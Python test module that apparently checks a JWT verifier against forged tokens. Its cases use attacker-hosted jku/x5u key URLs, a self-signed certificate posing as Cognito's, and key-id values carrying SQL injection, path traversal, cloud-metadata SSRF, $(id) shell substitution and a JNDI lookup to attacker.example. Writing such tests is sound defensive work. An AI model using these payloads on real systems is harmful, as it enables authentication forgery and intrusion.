"""Tokens that bring a key, name a key, or were signed by a key that is not the pool's."""

import json
import zlib
from base64 import b64encode
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from functools import cache
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives.hashes import SHA1, SHA256
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from tests import mint
from tests.tokens.attack import ABSENT, Attack, Pool, encode, jwk

_ATTACKER = "attacker-1"


@cache
def _certificate() -> x509.Certificate:
    """The attacker's, which the attacker signed."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "cognito-idp.amazonaws.com")])
    born = datetime.fromtimestamp(0, UTC)
    key = mint.private_key(_ATTACKER)
    builder = x509.CertificateBuilder(name, name, key.public_key(), 1, born, born + timedelta(days=36_500))
    return builder.sign(key, SHA256())


# --- keys that a token brings, or says where to find; the attacker has signed with them ---


_LOCATION = "https://attacker.example/keys"
_BROUGHT: dict[str, Callable[[], dict[str, Any]]] = {
    "nothing": lambda: {},
    "a key": lambda: {"jwk": jwk(mint.private_key(_ATTACKER), _ATTACKER)},
    "the address of keys": lambda: {"jku": _LOCATION},
    "the address of a certificate": lambda: {"x5u": _LOCATION},
    "a certificate": lambda: {"x5c": [b64encode(_certificate().public_bytes(Encoding.DER)).decode()]},
    "a certificate's SHA-1": lambda: {"x5t": mint.base64url(_certificate().fingerprint(SHA1()))},  # noqa: S303
    "a certificate's SHA-256": lambda: {"x5t#S256": mint.base64url(_certificate().fingerprint(SHA256()))},
    "the type of an encrypted token": lambda: {"typ": "JWE"},
    "the content type of a token": lambda: {"cty": "JWT"},
}


def _forged(what: str, **more: Any) -> Callable[[Pool], str]:
    return lambda pool: pool.token(header={**_BROUGHT[what](), **more}, key=mint.private_key(_ATTACKER))


def _forged_with_a_key_of_our_id(pool: Pool) -> str:
    header = {"jwk": jwk(mint.private_key(_ATTACKER), pool.kid)}
    return pool.token(header=header, key=mint.private_key(_ATTACKER))


def _forged_with_our_key_in_the_token(pool: Pool) -> str:
    """For verifiers that compare the key they were brought with the one they know, and then use the other."""
    header = {"jwk": jwk(pool.private_key, pool.kid)}
    return pool.token(header=header, key=mint.private_key(_ATTACKER))


_WAYS = ("nothing", "a key", "the address of keys", "the address of a certificate", "a certificate")

# --- key ids that are not the pool's; the pool's key has signed, so that nothing else is wrong ---

_KIDS: dict[str, Callable[[str], object]] = {
    "missing": lambda kid: ABSENT,
    "null": lambda kid: None,
    "a number": lambda kid: 0,
    "true": lambda kid: True,
    "a list": lambda kid: [kid],
    "an object": lambda kid: {kid: kid},
    "empty": lambda kid: "",
    "another one": lambda kid: _ATTACKER,
    "too short by a character": lambda kid: kid[:-1],
    "too long by a character": lambda kid: kid + "x",
    "ours twice": lambda kid: kid + kid,
    "ours with a space behind": lambda kid: kid + " ",
    "ours with a space in front": lambda kid: " " + kid,
    "ours with a line feed behind": lambda kid: kid + "\n",
    "ours with a NUL behind": lambda kid: kid + "\0",
    "ours with a NUL and another behind": lambda kid: f"{kid}\0{_ATTACKER}",
    "ours and another": lambda kid: f"{kid},{_ATTACKER}",
    "ours with a zero-width space": lambda kid: kid + "\u200b",
    "ours with a combining accent": lambda kid: kid + "\u0301",
    "ours in fullwidth letters": lambda kid: "".join(chr(ord(letter) + 0xFEE0) for letter in kid),
    "ours behind a path": lambda kid: f"./{kid}",
    "a wildcard": lambda kid: "*",
    "a wildcard of SQL": lambda kid: "%",
    "a query of SQL": lambda kid: f"{kid}' OR '1'='1",
    "an end of SQL": lambda kid: "'; DROP TABLE keys; --",
    "a path upwards": lambda kid: "../../../../../../dev/null",
    "an absolute path": lambda kid: "/proc/sys/kernel/randomize_va_space",
    "a file's address": lambda kid: "file:///etc/hostname",
    "an address": lambda kid: "https://attacker.example/key.pem",
    "an address within the cloud": lambda kid: "http://169.254.169.254/latest/meta-data/",
    "a shell's command": lambda kid: "$(id)",
    "a pipe": lambda kid: "| id",
    "a template": lambda kid: "{{7*7}}",
    "a lookup of a logger": lambda kid: "${jndi:ldap://attacker.example/a}",
    "a prototype": lambda kid: "__proto__",
    "a method": lambda kid: "keys",
    "an index": lambda kid: "0",
    "very long": lambda kid: "k" * 5000,
}


def _renamed(rename: Callable[[str], object]) -> Callable[[Pool], str]:
    return lambda pool: pool.token(header={"kid": rename(pool.kid)})


# --- extensions that a token demands; the pool's key has signed ---

_EXTENSIONS: dict[str, Mapping[str, Any]] = {
    "that its expiry is understood": {"crit": ["exp"], "exp": 4_000_000_000},
    "that nothing is understood": {"crit": []},
    "with a text": {"crit": "exp"},
    "with null": {"crit": None},
    "what is understood anyway": {"crit": ["alg"]},
    "an extension of the attacker's": {"crit": ["urn:attacker"], "urn:attacker": True},
    "what is not there": {"crit": ["urn:attacker"]},
    "a payload that is encoded": {"crit": ["b64"], "b64": True},
    "a payload that is not encoded": {"crit": ["b64"], "b64": False},
    "a payload that is not encoded, politely": {"b64": False},
    "a payload that is encoded, politely": {"b64": True},
    "a payload that is encoded in an unknown way": {"b64": None},
}


def _demanding(header: Mapping[str, Any]) -> Callable[[Pool], str]:
    return lambda pool: pool.token(header=header)


def _not_encoded(pool: Pool) -> str:
    """RFC 7797: the payload stands in the token as it is, and is signed as it is."""
    header = mint.base64url(encode(pool.header({"crit": ["b64"], "b64": False})))
    return pool.signed(f"{header}.{json.dumps(pool.claims())}")


def _detached(pool: Pool) -> str:
    """RFC 7797: the payload is signed, but not in the token."""
    header, _, signature = pool.parts(header={"crit": ["b64"], "b64": False})
    return f"{header}..{signature}"


def _compressed(pool: Pool) -> str:
    return mint.sign(encode(pool.header({"zip": "DEF"})), zlib.compress(encode(pool.claims()))[2:-4], pool.private_key)


ATTACKS = [
    *(Attack(f"a foreign signature under our key id, and {what}", "bad_signature", _forged(what)) for what in _BROUGHT),
    Attack("a foreign signature, and its key by our key's id", "bad_signature", _forged_with_a_key_of_our_id),
    Attack("a foreign signature, and our own key", "bad_signature", _forged_with_our_key_in_the_token),
    *(
        Attack(f"a foreign signature under a foreign key id, and {what}", "unknown_key", _forged(what, kid=_ATTACKER))
        for what in _WAYS
    ),
    *(
        Attack(f"a foreign signature without a key id, and {what}", "unknown_key", _forged(what, kid=ABSENT))
        for what in _WAYS
    ),
    *(Attack(f"a key id that is {what}", "unknown_key", _renamed(rename)) for what, rename in _KIDS.items()),
    *(
        Attack(f"a header that demands {what}", "malformed_token", _demanding(header))
        for what, header in _EXTENSIONS.items()
    ),
    Attack("a payload that is not encoded, as demanded", "malformed_token", _not_encoded),
    Attack("a payload that is elsewhere", "malformed_token", _detached),
    Attack("a payload that is compressed", "malformed_token", _compressed),
]
